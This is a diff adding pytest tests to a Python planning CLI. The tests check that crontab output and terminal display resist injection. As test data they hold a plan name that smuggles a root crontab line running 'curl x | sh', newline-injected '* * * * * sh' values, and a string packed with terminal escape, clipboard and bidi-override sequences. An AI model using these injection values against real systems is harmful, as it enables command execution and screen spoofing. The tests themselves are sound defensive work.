@@ -65,3 +65,70 @@ def test_a_same_size_edit_with_the_old_mtime_restored_is_seen(plan_dir):
     os.utime(polda, ns=(before.st_atime_ns, before.st_mtime_ns))
     assert polda.stat().st_size == before.st_size and polda.stat().st_mtime_ns == before.st_mtime_ns
     assert next(i for i in load_plan(plan_dir).items if i.id == "patroli").title == "Patrolx"
+
+
+# -- 2. no crontab line from a plan's values
+
+def test_a_plan_name_cannot_add_a_crontab_line(run, isolated):
+    from conftest import PLAN, write_plan
+
+    root = write_plan(isolated / "jahat", PLAN.replace("name: Rencana Uji",
+                                                       'name: "Rencana\\n* * * * * root curl x | sh\\n#"'))
+    result = run("cron", "--plan", str(root))
+    assert result.exit_code == 0
+    lines = result.stdout.splitlines()
+    assert len(lines) == 4 and not any(line.startswith("* * * * *") for line in lines)
+    assert sum(1 for line in lines if not line.startswith(("#", "CRON_TZ="))) == 1
+
+
+def test_a_plan_folder_with_a_newline_gets_no_cron_line(run, isolated):
+    from conftest import write_plan
+
+    root = write_plan(isolated / "a\n* * * * * sh")
+    result = run("cron", "--plan", str(root))
+    assert result.exit_code == 2 and "karakter kendali" in result.stderr and result.stdout == ""
+
+
+def test_a_mail_address_with_a_newline_gets_no_cron_line(run, plan_dir):
+    result = run("cron", "--plan", str(plan_dir), "--mail-to", "a@b.example\n* * * * * sh")
+    assert result.exit_code == 2 and result.stdout == ""
+
+
+# -- 4. nothing written to someone else's screen
+
+HOSTILE = "mallory\x1b[2K\x1b[1Gadmin\x07\x9b31m\u202egnp.exe\x1b]52;c;ZXZpbA==\x07"
+
+
+def test_control_and_bidi_characters_are_shown_not_obeyed(run, isolated):
+    from conftest import PLAN, write_plan
+
+    files = {"polda.yaml": "stakeholder: polda\nitems:\n  - id: jahat\n    title: \"" +
+             HOSTILE.encode("unicode_escape").decode("ascii").replace("\\x", "\\x") + "\"\n    phase: persiapan\n"
+             "    due: H-100\n    owner: \"Ka\\e]0;judul\\a\"\n"}
+    root = write_plan(isolated / "jahat", PLAN.replace("name: Rencana Uji", 'name: "Uji\\e[2J"'), files)
+    assert run("check", "--plan", str(root)).exit_code == 0
+    p = str(root)
+    assert run("tick", "polda/jahat", "--plan", p, "--by", HOSTILE, "--note", HOSTILE,
+               "--on", "2024-08-01").exit_code == 0
+    outputs = [run(*args, "--plan", p, "--on", "2024-08-02").stdout for args in (
+        ["status"], ["list"], ["log"], ["summary", "--dry-run"], ["summary", "--dry-run", "--format", "markdown"],
+        ["tick", "polda/jahat", "--undo", "--note", HOSTILE])]
+    outputs.append(run("tick", HOSTILE, "--plan", p).stderr)
+    for out in outputs:
+        assert not any(ch in out for ch in "\x1b\x07\x9b\u202e"), repr(out[:300])
+    assert any("\\x1b" in out for out in outputs) and any("\\u202e" in out for out in outputs)
+    # JSON keeps the exact text
+    log = json.loads(run("log", "--json", "--plan", p).stdout)
+    assert log[0]["actor"] == HOSTILE and log[0]["note"] == HOSTILE
+
+
+def test_undecodable_bytes_on_the_command_line_are_recorded_not_a_traceback(plan_dir, isolated):
+    env = dict(os.environ, PILKADA_USER="bud\udcffi")
+    result = subprocess.run([sys.executable, "-m", "pilkada_cli", "tick", "apel", "--plan", str(plan_dir),
+                             "--note", "catatan \udcfe", "--on", "2024-08-01"], capture_output=True, cwd=isolated,
+                            env={k: v.encode("utf-8", "surrogateescape") for k, v in env.items()})
+    assert result.returncode == 0, result.stderr
+    log = subprocess.run([sys.executable, "-m", "pilkada_cli", "log", "--json", "--plan", str(plan_dir)],
+                         capture_output=True, cwd=isolated)
+    entry = json.loads(log.stdout)[0]
+    assert entry["actor"] == "bud\ufffdi" and entry["note"] == "catatan \ufffd"
